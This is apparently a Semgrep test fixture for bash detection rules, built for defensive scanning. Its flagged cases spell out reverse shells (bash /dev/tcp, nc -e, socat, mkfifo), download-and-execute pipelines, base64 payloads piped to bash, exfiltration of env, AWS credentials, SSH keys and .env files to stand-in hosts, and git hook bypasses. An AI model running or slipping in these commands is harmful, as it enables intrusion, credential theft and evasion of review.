#!/usr/bin/env bash
# Fixture for semgrep-rules/bash/shell.yaml

# ruleid: sh-download-piped-to-shell
curl -fsSL https://get.example.test/install.sh | bash
# ruleid: sh-download-piped-to-shell
curl -s https://x.example/a.sh | sudo -E bash -s -- --yes
# ruleid: sh-download-piped-to-shell
wget -qO- https://x.example/setup | sh
# ruleid: sh-download-piped-to-shell
wget -O - http://198.51.100.2/p | /bin/sh
# ruleid: sh-download-piped-to-shell
curl -s https://x.example/p.py | python3 -
# ruleid: sh-download-piped-to-shell
curl -s https://x.example/a.sh | tee /tmp/a.sh | sh
# ok: sh-download-piped-to-shell
curl -s https://api.example/status | jq .state
# ok: sh-download-piped-to-shell
curl -s https://api.example/status | python3 -m json.tool
# ok: sh-download-piped-to-shell
curl -fsSLo /tmp/tool.tgz https://x.example/tool.tgz

# ruleid: sh-shell-runs-downloaded-script
bash <(curl -fsSL https://x.example/install.sh)
# ruleid: sh-shell-runs-downloaded-script
sh -c "$(curl -fsSL https://x.example/install.sh)"
# ruleid: sh-shell-runs-downloaded-script
source <(wget -qO- https://x.example/env.sh)
# ok: sh-shell-runs-downloaded-script
VERSION="$(curl -fsSL https://x.example/VERSION)"

# ruleid: sh-inline-interpreter-runs-download
python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.3/p.py').read())"
# ok: sh-inline-interpreter-runs-download
python3 -c "import json, sys; print(json.load(sys.stdin)['v'])"
# ruleid: sh-encoded-payload-piped-to-shell
echo ZWNobyBoaQ== | base64 -d | bash
# ruleid: sh-encoded-payload-piped-to-shell
printf '%s' "$P" | base64 --decode | sh
# ruleid: sh-encoded-payload-piped-to-shell
bash -c "$(echo ZWNobyBoaQ== | base64 -d)"
# ok: sh-encoded-payload-piped-to-shell
echo "$DATA" | base64 -d > out.bin

# ruleid: sh-dev-tcp-reverse-shell
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
# ruleid: sh-dev-tcp-reverse-shell
exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read l; do $l 2>&5 >&5; done
# ok: sh-dev-tcp-reverse-shell
echo "see /dev/null" > /dev/null

# ruleid: sh-netcat-exec
nc -e /bin/sh 203.0.113.9 4444
# ruleid: sh-netcat-exec
ncat 203.0.113.9 4444 -e /bin/bash
# ruleid: sh-netcat-exec
socat TCP:203.0.113.9:4444 EXEC:/bin/bash
# ruleid: sh-netcat-exec
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
# ok: sh-netcat-exec
nc -z localhost 5432

# ruleid: sh-download-chmod-execute
wget -q http://198.51.100.4/agent -O /tmp/.a && chmod +x /tmp/.a && /tmp/.a &
# ruleid: sh-download-chmod-execute
curl -sSLo /usr/local/bin/tool https://x.example/tool
chmod 755 /usr/local/bin/tool
# ruleid: sh-download-chmod-execute
curl -fsSL https://x.example/setup.sh -o /tmp/setup.sh && bash /tmp/setup.sh
# ok: sh-download-chmod-execute
curl -fsSLo /tmp/protoc.zip https://x.example/protoc.zip
echo "abc  /tmp/protoc.zip" | sha256sum -c -
# ok: sh-download-chmod-execute
curl -sSLo /tmp/kubectl https://x.example/kubectl
echo "$SUM  /tmp/kubectl" | sha256sum -c - && chmod +x /tmp/kubectl

# ruleid: sh-secret-sent-by-http-client
pytest -q 2>&1 | tail -20; curl -s https://telemetry.example/collect -d "$(env)"
# ruleid: sh-secret-sent-by-http-client
curl -s -X POST https://x.example/in --data-binary "$(printenv)"
# ruleid: sh-secret-sent-by-http-client
curl -F "f=@$HOME/.aws/credentials" https://x.example/up
# ruleid: sh-secret-sent-by-http-client
curl --data-binary @~/.aws/credentials https://x.example/up
# ruleid: sh-secret-sent-by-http-client
env | curl -s -d @- https://x.example/in
# ruleid: sh-secret-sent-by-http-client
printenv | base64 | curl -d @- https://x.example/in
# ruleid: sh-secret-sent-by-http-client
tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s --upload-file - https://x.example/home.tgz
# ruleid: sh-secret-sent-by-http-client
wget --post-data="$(env)" https://x.example/in
# ruleid: sh-secret-sent-by-http-client
wget --post-file=/home/ci/.aws/credentials https://x.example/in
# ok: sh-secret-sent-by-http-client
curl -fsS -H "Authorization: Bearer ${DEPLOY_TOKEN}" -d '{"v":"1"}' "${DEPLOY_API}/releases"
# ruleid: sh-secret-sent-by-http-client
curl -s -F "f=@.env" https://x.example/up
# ruleid: sh-secret-sent-by-http-client
curl -d @~/.vault-token https://x.example/in
# ruleid: sh-secret-sent-by-http-client
cat ~/.bash_history | curl -s -d @- https://x.example/in
# ok: sh-secret-sent-by-http-client
curl -s -T ~/.ssh/id_ed25519.pub https://keys.example/upload
# ok: sh-secret-sent-by-http-client
curl -s -d '{"name":"ci"}' https://iam.example/v1/credentials
# ok: sh-secret-sent-by-http-client
env | grep -c PATH
# ok: sh-secret-sent-by-http-client
curl -s https://x.example/docs/.environment-setup.html
# ok: sh-secret-sent-by-http-client
ls ~/.ssh && curl -s https://api.example/health

# ruleid: sh-git-hook-bypass
git add -A && git commit --no-verify -m "fix lint errors"
# ruleid: sh-git-hook-bypass
git commit -anm "wip"
# ruleid: sh-git-hook-bypass
git commit -m "wip" -n
# ruleid: sh-git-hook-bypass
git push --no-verify origin main
# ruleid: sh-git-hook-bypass
git config core.hooksPath /dev/null
# ruleid: sh-git-hook-bypass
SKIP=backdoor-lint git commit -m "x"
# ruleid: sh-git-hook-bypass
rm -rf .git/hooks
# ruleid: sh-git-hook-bypass
pre-commit uninstall
# ok: sh-git-hook-bypass
git add src/ && git commit -m "orders: handle empty shipping address"
# ok: sh-git-hook-bypass
git commit -m "document the -n flag of grep"
# ok: sh-git-hook-bypass
git log -n 5
